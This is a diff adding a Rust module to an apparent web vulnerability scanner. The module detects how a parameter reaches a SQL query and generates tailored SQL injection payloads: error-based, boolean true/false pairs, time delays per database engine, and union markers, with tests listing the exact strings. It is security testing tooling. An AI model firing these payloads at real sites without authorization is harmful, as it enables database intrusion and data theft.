@@ -1,3 +1,387 @@
 // src/modules/auxiliary/smart_payloads.rs
 
 // Adaptive payload generator
+
+use crate::core::safety::RiskLevel;
+use crate::modules::auxiliary::analyzer::{ReflectionContext, ResponseAnalyzer};
+use crate::modules::auxiliary::signatures::{ErrorClass, SignatureMatch};
+use crate::payloads::{PayloadEntry, Technique};
+use std::fmt;
+
+/// Most closing parentheses tried after the original value
+const MAX_PARENTHESES: usize = 1;
+
+/// Database engines the payloads can be written for
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Dbms {
+    MySql,
+    PostgreSql,
+    MsSql,
+    Oracle,
+    Sqlite,
+}
+
+impl Dbms {
+    pub const ALL: [Dbms; 5] = [Dbms::MySql, Dbms::PostgreSql, Dbms::MsSql, Dbms::Oracle, Dbms::Sqlite];
+
+    /// Parses the short names used in payload libraries (`mysql`, `mssql`, ...)
+    pub fn from_name(name: &str) -> Option<Dbms> {
+        match name.to_ascii_lowercase().as_str() {
+            "mysql" | "mariadb" => Some(Dbms::MySql),
+            "postgresql" | "postgres" => Some(Dbms::PostgreSql),
+            "mssql" | "sqlserver" => Some(Dbms::MsSql),
+            "oracle" => Some(Dbms::Oracle),
+            "sqlite" => Some(Dbms::Sqlite),
+            _ => None,
+        }
+    }
+
+    /// Short name as used in payload libraries
+    pub fn key(&self) -> &'static str {
+        match self {
+            Dbms::MySql => "mysql",
+            Dbms::PostgreSql => "postgresql",
+            Dbms::MsSql => "mssql",
+            Dbms::Oracle => "oracle",
+            Dbms::Sqlite => "sqlite",
+        }
+    }
+
+    pub fn name(&self) -> &'static str {
+        match self {
+            Dbms::MySql => "MySQL",
+            Dbms::PostgreSql => "PostgreSQL",
+            Dbms::MsSql => "Microsoft SQL Server",
+            Dbms::Oracle => "Oracle",
+            Dbms::Sqlite => "SQLite",
+        }
+    }
+
+    /// Sequence that comments out the rest of the query. MySQL needs
+    /// whitespace after `--`, the others do not.
+    pub fn comment(&self) -> &'static str {
+        match self {
+            Dbms::MySql => "-- ",
+            _ => "--",
+        }
+    }
+
+    /// A read-only condition that is true on this DBMS and a syntax or
+    /// unknown-function error on the others
+    pub fn probe(&self) -> &'static str {
+        match self {
+            Dbms::MySql => "CONNECTION_ID()=CONNECTION_ID()",
+            Dbms::PostgreSql => "PG_BACKEND_PID()=PG_BACKEND_PID()",
+            Dbms::MsSql => "@@SPID=@@SPID",
+            Dbms::Oracle => "ROWNUM=ROWNUM",
+            Dbms::Sqlite => "SQLITE_VERSION()=SQLITE_VERSION()",
+        }
+    }
+
+    /// Delay template with `{delay}`, placed right after `closure`; `None` when
+    /// the engine has no reliable sleep function
+    fn delay(&self, closure: &str) -> Option<String> {
+        let comment = self.comment();
+        match self {
+            Dbms::MySql => Some(format!("{} AND SLEEP({{delay}}){}", closure, comment)),
+            Dbms::PostgreSql => Some(format!("{} AND 1=(SELECT 1 FROM PG_SLEEP({{delay}})){}", closure, comment)),
+            Dbms::MsSql => Some(format!("{}; WAITFOR DELAY '0:0:{{delay}}'{}", closure, comment)),
+            Dbms::Oracle => Some(format!("{} AND 1=DBMS_PIPE.RECEIVE_MESSAGE('rlx',{{delay}}){}", closure, comment)),
+            Dbms::Sqlite => None,
+        }
+    }
+
+    /// Guesses the DBMS from the technology of matched SQL error signatures
+    pub fn from_errors(matches: &[SignatureMatch]) -> Option<Dbms> {
+        matches
+            .iter()
+            .filter(|m| m.class == ErrorClass::Sql)
+            .find_map(|m| Dbms::ALL.into_iter().find(|d| d.name().eq_ignore_ascii_case(&m.technology)))
+    }
+}
+
+/// Whether the database uses the original value as a number or inside a string literal
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ValueKind {
+    Numeric,
+    String,
+}
+
+/// How an injection point's value ends up in the query and in the response
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct InjectionContext {
+    pub kind: ValueKind,
+    /// Quote around the value in string contexts
+    pub quote: Option<char>,
+    /// Backend guessed from errors seen while probing
+    pub dbms: Option<Dbms>,
+    /// Where the value shows up in the response; empty if it is not reflected
+    pub reflections: Vec<ReflectionContext>,
+}
+
+impl fmt::Display for InjectionContext {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match (self.kind, self.quote) {
+            (ValueKind::String, Some(quote)) => write!(f, "string quoted with {}", quote)?,
+            (ValueKind::String, None) => write!(f, "string")?,
+            (ValueKind::Numeric, _) => write!(f, "numeric")?,
+        }
+        if let Some(dbms) = self.dbms {
+            write!(f, " ({})", dbms.name())?;
+        }
+        if !self.reflections.is_empty() {
+            write!(f, ", reflected in {}", ResponseAnalyzer::describe_reflections(&self.reflections))?;
+        }
+        Ok(())
+    }
+}
+
+/// How the page reacted to the context probes; a probe "breaks" the query when
+/// the status changes or a new database error appears
+#[derive(Debug, Clone, Copy, Default)]
+pub struct ContextProbe {
+    pub single_quote_breaks: bool,
+    pub doubled_single_quote_breaks: bool,
+    pub double_quote_breaks: bool,
+    pub doubled_double_quote_breaks: bool,
+    /// Whether `value-0` renders the normal page; only probed for numeric values
+    pub arithmetic_accepted: Option<bool>,
+}
+
+impl ContextProbe {
+    /// Suffixes of the quote probes, in the order of the fields above
+    pub const QUOTE_SUFFIXES: [&str; 4] = ["'", "''", "\"", "\"\""];
+
+    /// Suffix that leaves a number unchanged when it is evaluated as SQL
+    pub const ARITHMETIC_SUFFIX: &str = "-0";
+}
+
+impl InjectionContext {
+    /// Derives the context from how the original value breaks
+    ///
+    /// A quote that breaks the query while two of them do not closes a string
+    /// literal. A numeric value whose quotes break the query in any form, but
+    /// which survives `-0`, is used as a number. Anything else, including a
+    /// value that nothing breaks, gives no context. `reflections` are kept for
+    /// payload generation.
+    pub fn classify(probe: &ContextProbe, dbms: Option<Dbms>, reflections: &[ReflectionContext]) -> Option<Self> {
+        let context = |kind, quote| Some(Self { kind, quote, dbms, reflections: reflections.to_vec() });
+        let string = |quote| context(ValueKind::String, Some(quote));
+
+        if probe.single_quote_breaks && !probe.doubled_single_quote_breaks {
+            return string('\'');
+        }
+        if probe.double_quote_breaks && !probe.doubled_double_quote_breaks {
+            return string('"');
+        }
+        let breaks = probe.single_quote_breaks || probe.double_quote_breaks;
+        if breaks && probe.arithmetic_accepted == Some(true) {
+            return context(ValueKind::Numeric, None);
+        }
+        None
+    }
+
+    /// Ways to close the original value: the quote (if any) followed by up to
+    /// `MAX_PARENTHESES` parentheses, as `(closing, reopening)` pairs
+    fn closures(&self) -> Vec<(String, String)> {
+        let quote = self.quote.map(String::from).unwrap_or_default();
+        (0..=MAX_PARENTHESES)
+            .map(|depth| (format!("{}{}", quote, ")".repeat(depth)), "(".repeat(depth)))
+            .collect()
+    }
+
+    /// A literal of the context's type, e.g. `'1'` or `1`
+    fn literal(&self, value: u32) -> String {
+        match self.quote {
+            Some(quote) => format!("{}{}{}", quote, value, quote),
+            None => value.to_string(),
+        }
+    }
+
+    /// An always-true condition, or its always-false control, comparing the
+    /// given literals. A reflected payload shows up in the page, escaped in
+    /// scripts and JSON where it cannot be told apart from the content, so
+    /// both conditions then use the same characters (`2>1` and `1>2`).
+    fn condition(&self, truth: bool, literal: impl Fn(u32) -> String) -> String {
+        match (self.reflections.is_empty(), truth) {
+            (true, true) => format!("{}={}", literal(1), literal(1)),
+            (true, false) => format!("{}={}", literal(1), literal(2)),
+            (false, true) => format!("{}>{}", literal(2), literal(1)),
+            (false, false) => format!("{}>{}", literal(1), literal(2)),
+        }
+    }
+
+    /// Returns true when a library payload starts by closing the value the
+    /// way this context needs
+    fn fits(&self, text: &str) -> bool {
+        match self.quote {
+            Some(quote) => text.starts_with(quote),
+            None => !text.starts_with(['\'', '"']),
+        }
+    }
+}
+
+/// Generates payloads for a known injection context
+pub struct SmartPayloads;
+
+impl SmartPayloads {
+    /// Payloads written for the context: each closes the value with the right
+    /// quote and parentheses, and either balances the rest of the query or
+    /// comments it out with the DBMS's syntax. Boolean pairs of a reflected
+    /// value echo the same characters.
+    pub fn generate(context: &InjectionContext) -> Vec<PayloadEntry> {
+        let comment = context.dbms.map_or("-- ", |d| d.comment());
+        let closures = context.closures();
+        let mut payloads = Vec::new();
+
+        for (close, _) in &closures {
+            let text = if close.is_empty() { "'".to_string() } else { close.clone() };
+            payloads.push(entry(&text, None, None, Technique::Error));
+        }
+        if matches!(context.dbms, None | Some(Dbms::MySql)) {
+            let text = format!("{} AND EXTRACTVALUE(1, CONCAT(0x5c, VERSION())){}", closures[0].0, Dbms::MySql.comment());
+            payloads.push(entry(&text, None, Some(Dbms::MySql), Technique::Error));
+        }
+
+        for (close, reopen) in &closures {
+            // Balanced: the original closing quote and parentheses end the condition
+            let balanced = |truth: bool| {
+                let condition = context.condition(truth, |value| context.literal(value));
+                let condition = match context.quote {
+                    Some(quote) => condition.strip_suffix(quote).unwrap_or(&condition).to_string(),
+                    None => condition,
+                };
+                format!("{} AND {}{}", close, reopen, condition)
+            };
+            payloads.push(PayloadEntry { control: Some(balanced(false)), ..entry(&balanced(true), None, None, Technique::Boolean) });
+
+            let commented = |truth: bool| format!("{} AND {}{}", close, context.condition(truth, |value| value.to_string()), comment);
+            payloads.push(PayloadEntry { control: Some(commented(false)), ..entry(&commented(true), None, None, Technique::Boolean) });
+        }
+
+        let dialects: Vec<Dbms> = context.dbms.map_or(Dbms::ALL.to_vec(), |d| vec![d]);
+        for dbms in dialects {
+            if let Some(text) = dbms.delay(&closures[0].0) {
+                payloads.push(PayloadEntry { risk: RiskLevel::Heavy, ..entry(&text, None, Some(dbms), Technique::Time) });
+            }
+        }
+
+        for (close, _) in &closures {
+            payloads.push(entry(close, None, None, Technique::Union));
+        }
+        payloads
+    }
+
+    /// A SQL expression that evaluates to a fresh marker, and the marker. When
+    /// the input is reflected the marker is built with `LOWER`, so the echoed
+    /// payload cannot be mistaken for a query result.
+    pub fn union_marker(reflections: &[ReflectionContext]) -> (String, String) {
+        let marker = ResponseAnalyzer::canary();
+        if reflections.is_empty() {
+            (format!("'{}'", marker), marker)
+        } else {
+            (format!("LOWER('{}')", marker.to_ascii_uppercase()), marker)
+        }
+    }
+
+    /// The generated payloads followed by the library payloads that fit the
+    /// context, without duplicates
+    pub fn for_context(context: &InjectionContext, library: &[PayloadEntry]) -> Vec<PayloadEntry> {
+        let mut payloads = Self::generate(context);
+        for candidate in library {
+            let other_dbms = context.dbms.is_some()
+                && candidate.dbms.as_deref().and_then(Dbms::from_name).is_some_and(|d| Some(d) != context.dbms);
+            let duplicate = payloads
+                .iter()
+                .any(|p| p.technique == candidate.technique && p.text == candidate.text && p.control == candidate.control);
+            if context.fits(&candidate.text) && !other_dbms && !duplicate {
+                payloads.push(candidate.clone());
+            }
+        }
+        payloads
+    }
+}
+
+/// A read-only payload entry
+fn entry(text: &str, control: Option<String>, dbms: Option<Dbms>, technique: Technique) -> PayloadEntry {
+    PayloadEntry {
+        text: text.to_string(),
+        control,
+        dbms: dbms.map(|d| d.key().to_string()),
+        technique,
+        risk: RiskLevel::ReadOnly,
+        detection: technique.detection(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_classify_context() {
+        let quoted = ContextProbe { single_quote_breaks: true, ..ContextProbe::default() };
+        let context = InjectionContext::classify(&quoted, None, &[ReflectionContext::HtmlText]).unwrap();
+        assert_eq!((context.kind, context.quote), (ValueKind::String, Some('\'')));
+        assert_eq!(context.to_string(), "string quoted with ', reflected in HTML text");
+
+        let numeric = ContextProbe {
+            single_quote_breaks: true,
+            doubled_single_quote_breaks: true,
+            double_quote_breaks: true,
+            doubled_double_quote_breaks: true,
+            arithmetic_accepted: Some(true),
+        };
+        let context = InjectionContext::classify(&numeric, Some(Dbms::MySql), &[]).unwrap();
+        assert_eq!(context.to_string(), "numeric (MySQL)");
+
+        // Nothing breaks: the value never reaches a query in an observable way
+        assert_eq!(InjectionContext::classify(&ContextProbe::default(), None, &[]), None);
+        // Quotes break in any form but the value is not a number
+        assert_eq!(InjectionContext::classify(&ContextProbe { arithmetic_accepted: None, ..numeric }, None, &[]), None);
+    }
+
+    #[test]
+    fn test_generated_payloads_follow_context() {
+        let mut context =
+            InjectionContext { kind: ValueKind::String, quote: Some('"'), dbms: Some(Dbms::MySql), reflections: Vec::new() };
+        let payloads = SmartPayloads::generate(&context);
+        let boolean: Vec<(&str, &str)> = payloads
+            .iter()
+            .filter(|p| p.technique == Technique::Boolean)
+            .map(|p| (p.text.as_str(), p.control.as_deref().unwrap()))
+            .collect();
+        assert_eq!(
+            boolean,
+            vec![
+                ("\" AND \"1\"=\"1", "\" AND \"1\"=\"2"),
+                ("\" AND 1=1-- ", "\" AND 1=2-- "),
+                ("\") AND (\"1\"=\"1", "\") AND (\"1\"=\"2"),
+                ("\") AND 1=1-- ", "\") AND 1=2-- "),
+            ]
+        );
+        let time: Vec<&str> = payloads.iter().filter(|p| p.technique == Technique::Time).map(|p| p.text.as_str()).collect();
+        assert_eq!(time, vec!["\" AND SLEEP({delay})-- "]);
+
+        context.reflections = vec![ReflectionContext::JsonString];
+        let reflected = SmartPayloads::generate(&context);
+        let pair = reflected.iter().find(|p| p.technique == Technique::Boolean).unwrap();
+        assert_eq!((pair.text.as_str(), pair.control.as_deref()), ("\" AND \"2\">\"1", Some("\" AND \"1\">\"2")));
+
+        let numeric =
+            InjectionContext { kind: ValueKind::Numeric, quote: None, dbms: Some(Dbms::PostgreSql), reflections: Vec::new() };
+        let library = vec![
+            entry("' AND 1=1--", Some("' AND 1=2--".to_string()), None, Technique::Boolean),
+            entry("; SELECT 1--", None, None, Technique::Error),
+            entry(" AND SLEEP({delay})", None, Some(Dbms::MySql), Technique::Time),
+        ];
+        let payloads = SmartPayloads::for_context(&numeric, &library);
+        assert!(payloads.iter().any(|p| p.text == " AND 1=1" && p.control.as_deref() == Some(" AND 1=2")));
+        assert!(payloads.iter().any(|p| p.text == "; SELECT 1--"));
+        assert!(payloads.iter().all(|p| !p.text.starts_with('\'') || p.technique == Technique::Error));
+        assert!(payloads.iter().all(|p| p.dbms.is_none() || p.dbms.as_deref() == Some("postgresql")));
+
+        let (expression, marker) = SmartPayloads::union_marker(&[ReflectionContext::HtmlText]);
+        assert!(!expression.contains(&marker) && expression.to_ascii_lowercase().contains(&marker));
+    }
+}